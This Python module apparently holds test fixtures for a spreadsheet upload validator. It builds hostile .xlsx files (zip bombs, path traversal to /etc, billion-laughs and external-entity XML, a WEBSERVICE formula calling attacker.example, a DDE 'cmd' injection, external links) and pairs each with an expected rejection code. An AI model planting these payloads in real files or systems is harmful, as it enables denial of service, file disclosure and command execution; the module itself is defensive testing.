"""Hostile workbooks."""

import gzip
import struct
import zipfile
import zlib
from pathlib import Path

from ..builders import LINK, MAIN, PACKAGE, cell, form_rows, in_memory, pack, parts, sheet
from .files import LAUGHS, MIB, OTHER, REFUSED, Build, Hostile, later, noise, raw
from .papers import foreign_pdf

SHEET = "xl/worksheets/sheet1.xml"


def book(changes: dict[str, str | bytes]) -> Build:
    return lambda path: pack(path, parts(changes))


def cells(xml: str, dimension: str = "") -> Build:
    return book({SHEET: sheet(form_rows() + xml, dimension)})


def fifield(path: Path) -> None:
    """Many directory entries for the same packed bytes."""
    pack(path, parts({"xl/media/a.bin": b"\0" * (3 * MIB)}))
    data = path.read_bytes()
    start = struct.unpack_from("<I", data, len(data) - 6)[0]
    at = data.rindex(b"PK\x01\x02", start)
    entry = data[at : len(data) - 22]
    extra = [entry[:46] + b"xl/media/%c.bin" % letter + entry[46 + 14 :] for letter in b"bcdefghij"]
    directory = data[start : len(data) - 22] + b"".join(extra)
    total = data[start : len(data) - 22].count(b"PK\x01\x02") + len(extra)
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, total, total, len(directory), start, 0)
    path.write_bytes(data[:start] + directory + end)


def second_name(path: Path) -> None:
    """A part with another path in its extra field."""
    info = zipfile.ZipInfo("xl/a.xml")
    info.extra = struct.pack("<2HBI", 0x7075, 15, 1, zlib.crc32(b"xl/a.xml")) + b"../evil.xm"
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in parts().items():
            archive.writestr(name, content)
        archive.writestr(info, "<a/>")


def with_method(method: int) -> Build:
    def build(path: Path) -> None:
        with zipfile.ZipFile(path, "w", method) as archive:
            for name, content in parts().items():
                archive.writestr(name, content)

    return build


def two_sheets_of_one_name(path: Path) -> None:
    book_xml = str(parts()["xl/workbook.xml"]).replace(
        '<sheet name="Form" sheetId="1" r:id="r1"/>',
        '<sheet name="Form" sheetId="2" state="hidden" r:id="r3"/><sheet name="Form" sheetId="1" r:id="r1"/>',
    )
    links = str(parts()["xl/_rels/workbook.xml.rels"]).replace(
        "</Relationships>",
        f'<Relationship Id="r3" Type="{LINK}/worksheet" Target="worksheets/sheet2.xml"/></Relationships>',
    )
    hidden = sheet('<row r="1"><c r="A1"><f>WEBSERVICE("http://attacker.example")</f><v>1</v></c></row>')
    pack(
        path,
        parts({"xl/workbook.xml": book_xml, "xl/_rels/workbook.xml.rels": links, "xl/worksheets/sheet2.xml": hidden}),
    )


def linked(target: str, mode: str = "") -> Build:
    links = (
        f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" Type="{LINK}/worksheet" '
        f'Target="{target}" {mode}/></Relationships>'
    )
    return book({"xl/_rels/workbook.xml.rels": links})


BOOKS = [
    Hostile("a bomb by ratio", "a.xlsx", later(lambda: book({"xl/media/a.png": b"\0" * (30 * MIB)})), "file_zip_bomb"),
    Hostile("a sheet of 100 MB of nothing", "a.xlsx", later(lambda: cells(" " * (100 * MIB))), "file_zip_bomb"),
    Hostile("one packed part in many places", "a.xlsx", fifield, REFUSED),
    Hostile(
        "3,000 parts", "a.xlsx", later(lambda: book({f"xl/{n}.xml": "<a/>" for n in range(3000)})), "file_zip_bomb"
    ),
    Hostile("a zip in the zip", "a.xlsx", book({"xl/media/a.zip": in_memory({"b.zip": b"x"})}), "file_ole"),
    Hostile("a path out", "a.xlsx", book({"../../etc/cron.d/evil": "x"}), REFUSED),
    Hostile("an absolute path", "a.xlsx", book({"/etc/passwd": "x"}), REFUSED),
    Hostile("a second name", "a.xlsx", second_name, REFUSED),
    Hostile("bzip2", "a.xlsx", with_method(zipfile.ZIP_BZIP2), REFUSED),
    Hostile("lzma", "a.xlsx", with_method(zipfile.ZIP_LZMA), REFUSED),
    Hostile("a page before the zip", "a.xlsx", lambda p: p.write_bytes(b"<html>" + in_memory(parts())), OTHER),
    Hostile("a PDF before the zip", "a.xlsx", lambda p: p.write_bytes(foreign_pdf() + in_memory(parts())), OTHER),
    Hostile("a script behind the zip", "a.xlsx", lambda p: p.write_bytes(in_memory(parts()) + b"<script>"), REFUSED),
    Hostile("gzip", "a.xlsx", lambda p: p.write_bytes(gzip.compress(in_memory(parts()))), OTHER),
    Hostile("HTML", "a.xlsx", raw(b"<html><table><tr><td>1"), OTHER),
    Hostile("XML of 2003", "a.xlsx", raw(b'<?xml version="1.0"?><Workbook/>'), OTHER),
    Hostile("an empty zip", "a.xlsx", raw(b"PK\x05\x06" + b"\0" * 18), REFUSED),
    Hostile("a billion laughs", "a.xlsx", book({SHEET: LAUGHS + sheet(form_rows())}), "file_dtd"),
    Hostile(
        "an external entity",
        "a.xlsx",
        book({"xl/sharedStrings.xml": '<!DOCTYPE sst SYSTEM "file:///etc/passwd"><sst/>'}),
        "file_dtd",
    ),
    Hostile(
        "a document type in UTF-16",
        "a.xlsx",
        book({"xl/styles.xml": f'<?xml version="1.0" encoding="utf-16"?>{LAUGHS}<a/>'.encode("utf-16")}),
        "file_dtd",
    ),
    Hostile(
        "XML in UTF-7", "a.xlsx", book({"xl/styles.xml": b'<?xml version="1.0" encoding="utf-7"?><a/>'}), "file_damaged"
    ),
    Hostile("macros", "a.xlsx", book({"xl/vbaProject.bin": b"x"}), "file_macros"),
    Hostile(
        "a million columns by their widths",
        "a.xlsx",
        book(
            {SHEET: sheet(form_rows()).replace("<sheetData>", '<cols><col min="1" max="1000000"/></cols><sheetData>')}
        ),
        "",
    ),
    Hostile("a dimension of everything", "a.xlsx", cells("", "A1:XFD1048576"), ""),
    Hostile("a dimension beyond everything", "a.xlsx", cells("", "A1:ZZZZ4294967295"), ""),
    Hostile(
        "a used cell in column XFD", "a.xlsx", cells(f'<row r="3">{cell("XFD3", "x")}</row>'), "file_too_many_columns"
    ),
    Hostile(
        "two far cells", "a.xlsx", cells(f'<row r="1048576">{cell("GR1048576", "x")}</row>'), "file_too_many_cells"
    ),
    Hostile(
        "row 2^31", "a.xlsx", cells(f'<row r="2147483648">{cell("A2147483648", "x")}</row>'), "file_too_many_cells"
    ),
    Hostile(
        "row 2^31 in the row alone",
        "a.xlsx",
        cells('<row r="2147483648"><c t="inlineStr"><is><t>x</t></is></c></row>'),
        "file_too_many_cells",
    ),
    Hostile(
        "row 2^64",
        "a.xlsx",
        cells(f'<row r="18446744073709551617">{cell("A18446744073709551617", "x")}</row>'),
        "file_too_many_cells",
    ),
    Hostile("an empty cell in row 2^32", "a.xlsx", cells('<row r="4294967297"><c r="XFD4294967297" s="0"/></row>'), ""),
    Hostile("an empty cell in the last row", "a.xlsx", cells('<row r="1048576"><c r="XFD1048576" s="0"/></row>'), ""),
    Hostile("row 0", "a.xlsx", cells(f'<row r="0">{cell("A0", "x")}</row>'), "file_damaged"),
    Hostile(
        "rows that go back",
        "a.xlsx",
        cells(f'<row r="9">{cell("A9", "x")}</row><row r="3">{cell("A3", "y")}</row>'),
        "",
        frozenset(("site_number_shape", "value_missing")),
    ),
    Hostile(
        "a number of 10,000 digits",
        "a.xlsx",
        later(lambda: cells(f'<row r="{"9" * 10_000}"><c><v>1</v></c></row>')),
        "file_damaged",
    ),
    Hostile(
        "a shared text that isn't there",
        "a.xlsx",
        cells('<row r="3"><c r="A3" t="s"><v>4294967295</v></c></row>'),
        "file_damaged",
    ),
    Hostile(
        "4 thousand million shared texts claimed",
        "a.xlsx",
        book(
            {
                "xl/sharedStrings.xml": f'<sst xmlns="{MAIN}" count="4294967295" uniqueCount="4294967295">'
                "<si><t>x</t></si></sst>"
            }
        ),
        "file_too_complex",
    ),
    Hostile(
        "10 MB in a cell",
        "a.xlsx",
        later(lambda: cells(f'<row r="3">{cell("A3", noise(10_000_000))}</row>')),
        "file_cell_too_long",
    ),
    Hostile(
        "a long shared text a million times",
        "a.xlsx",
        later(
            lambda: book(
                {
                    "xl/sharedStrings.xml": f'<sst xmlns="{MAIN}"><si><t>{noise(32_000)}</t></si></sst>',
                    SHEET: sheet(
                        "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 20_000))
                    ),
                }
            )
        ),
        "file_too_many_cells",
    ),
    Hostile(
        "NUL in XML",
        "a.xlsx",
        book({SHEET: sheet(form_rows()).encode().replace(b"D0ABCLL", b"D0\0BCLL")}),
        "file_damaged",
    ),
    Hostile("NUL as a reference", "a.xlsx", cells(f'<row r="3">{cell("A3", "&#0;")}</row>'), "file_damaged"),
    Hostile(
        "a surrogate as a reference", "a.xlsx", cells(f'<row r="3">{cell("A3", "&#xD800;")}</row>'), "file_damaged"
    ),
    Hostile(
        "NUL as spreadsheets escape it",
        "a.xlsx",
        cells(
            f'<row r="3">{cell("A3", "00_x0000_1")}{cell("B3", "D0ABCLL")}{cell("C3", "3")}{cell("D3", "009")}</row>'
        ),
        "",
        frozenset(("value_characters",)),
    ),
    Hostile(
        "a formula",
        "a.xlsx",
        cells('<row r="3"><c r="A3"><f>WEBSERVICE("http://attacker.example")</f><v>1</v></c></row>'),
        "file_formula",
    ),
    Hostile(
        "=cmd as a text",
        "a.xlsx",
        book({SHEET: sheet(form_rows(("=cmd|'/C calc'!A0", "D0ABCLL", "3", "0099999")))}),
        "",
        frozenset(("value_formula",)),
    ),
    Hostile("two sheets of one name", "a.xlsx", two_sheets_of_one_name, "file_damaged"),
    Hostile("a sheet out of the file", "a.xlsx", linked("../../../etc/passwd"), "file_damaged"),
    Hostile(
        "a sheet elsewhere",
        "a.xlsx",
        linked("http://attacker.example/a.xml", 'TargetMode="External"'),
        "file_external_links",
    ),
    Hostile("XML 5,000 deep", "a.xlsx", later(lambda: cells("<a>" * 5000 + "</a>" * 5000)), "file_too_complex"),
    Hostile(
        "an element of 200,000 attributes",
        "a.xlsx",
        later(lambda: cells("<row " + " ".join(f'a{n}="1"' for n in range(200_000)) + "/>")),
        "",
    ),
]
